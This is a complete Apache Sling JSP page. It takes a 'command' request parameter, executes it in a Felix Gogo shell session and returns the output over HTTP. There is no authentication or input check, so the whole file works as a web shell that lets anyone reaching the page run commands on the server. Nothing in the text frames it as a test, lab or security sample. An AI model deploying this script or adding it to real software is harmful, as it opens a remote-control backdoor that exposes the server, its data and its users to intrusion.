<%@page session="false" contentType="text/plain; charset=utf-8" import="java.io.*, org.apache.felix.service.command.*"%><%@taglib prefix="sling" uri="http://sling.apache.org/taglibs/sling"%><sling:defineObjects/><%
ByteArrayOutputStream bytes = new ByteArrayOutputStream();
PrintStream printed = new PrintStream(bytes, true, "UTF-8");
CommandSession shell = sling.getService(CommandProcessor.class)
        .createSession(new ByteArrayInputStream(new byte[0]), printed, printed);
try {
    shell.execute(request.getParameter("command"));
} catch (Exception e) {
    printed.println("failed: " + e);
} finally {
    shell.close();
}
out.print(bytes.toString("UTF-8"));
%>
